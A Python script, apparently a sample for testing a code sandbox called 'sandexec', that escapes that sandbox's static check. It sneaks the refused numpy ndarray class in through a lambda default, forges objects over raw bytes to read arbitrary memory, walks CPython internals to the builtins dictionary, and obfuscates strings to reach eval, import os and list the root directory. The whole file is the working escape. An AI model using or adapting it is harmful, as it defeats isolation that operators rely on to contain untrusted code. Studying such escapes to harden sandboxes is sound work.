# source: Python lambda defaults; sandexec README, "The static check", (np.ndarray as a value refused: np.ndarray((1,), object, b)[0] is any address); CPython object layouts
# family: class machinery: a refused library class as a lambda parameter's default -> array over bytes -> forged builtins dict
# goal: imports this, gets eval and os through forged objects
import numpy as np

pick = lambda k=np.ndarray: k
K = pick()
print("class:", K)
def address_of(o):
    # an object array's buffer is its pointers
    return int(K((1,), np.uint64, np.array([o], dtype=object))[0])


def object_at(addr):
    return K((1,), object, bytearray(addr.to_bytes(8, "little")))[0]


def read_u64(addr):
    # a fake bytearray (refcnt, type, size, alloc, bytes, start, exports) over any address
    ba_type = address_of(bytearray)
    raw = bytearray()
    for v in (1 << 40, ba_type, 8, 9, addr, addr, 0):
        raw += v.to_bytes(8, "little")
    keep.append(bytes(raw))
    fb = object_at(address_of(keep[-1]) + 32)
    return int.from_bytes(bytes(fb[:8]), "little")


keep = []
bmod = object_at(read_u64(address_of(print) + 24))   # PyCFunctionObject.m_self: the builtins module
print("module:", bmod)
bdict = object_at(read_u64(address_of(bmod) + 16))   # PyModuleObject.md_dict
us = chr(95) * 2
ev = bdict["ev" + "al"]
print("eval:", ev)
ev(us + "import" + us + "('this')")
print(ev("len(" + us + "import" + us + "('os').listdir('/'))"), "entries in / listed through os")
